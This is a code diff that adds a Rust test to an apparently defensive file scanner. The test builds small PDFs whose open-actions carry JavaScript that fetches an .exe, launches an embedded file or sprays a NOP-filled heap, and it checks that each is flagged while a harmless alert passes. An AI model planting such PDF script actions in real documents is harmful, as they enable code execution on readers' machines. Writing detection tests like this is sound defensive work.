@@ -25,6 +25,29 @@ fn what_documents_embed_is_found_under_its_name() {
 }
 
 #[test]
+fn what_the_script_of_a_pdf_does_counts_for_the_document() {
+    let document = |opens: &str, script: &str| {
+        let digits: String = script.bytes().map(|byte| format!("{byte:02x}")).collect();
+        let action = format!("<< /S /JavaScript /JS <{digits}> >>");
+        format!("%PDF-1.7\n1 0 obj\n<< /Type /Catalog {opens} {action} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF").into_bytes()
+    };
+    let code = format!("var c = unescape('{}'); while (c.length < 0x40000) c += c;", "%u9090".repeat(30));
+    for (script, signature) in [
+        ("app.launchURL('https://example.com/a.exe', true);", "FileSafety.Suspicious.RunsAndFetches"),
+        ("this.exportDataObject({ cName: 'a.doc', nLaunch: 2 });", "FileSafety.Suspicious.RunsProgram"),
+        (&code, "FileSafety.Suspicious.RunsProgram"),
+    ] {
+        let report = scanned(&document("/OpenAction", script));
+        assert_eq!(found(&report), [(signature, "")], "{script}");
+        // On a click, each is no more than a fact.
+        let report = scanned(&document("/A", script));
+        assert!(found(&report).is_empty() && !report.notes.is_empty(), "{script}: {:?}", found(&report));
+    }
+    let honest = scanned(&document("/OpenAction", "app.alert('hello'); this.submitForm('https://example.com/form');"));
+    assert!(found(&honest).is_empty());
+}
+
+#[test]
 fn macros_are_scanned_as_text() {
     let report = scanned(&macro_document(&[("Module1", &eicar())]));
     assert!(found(&report).contains(&("EICAR-Test-File", "VBA/Module1.bas")), "{:?}", found(&report));
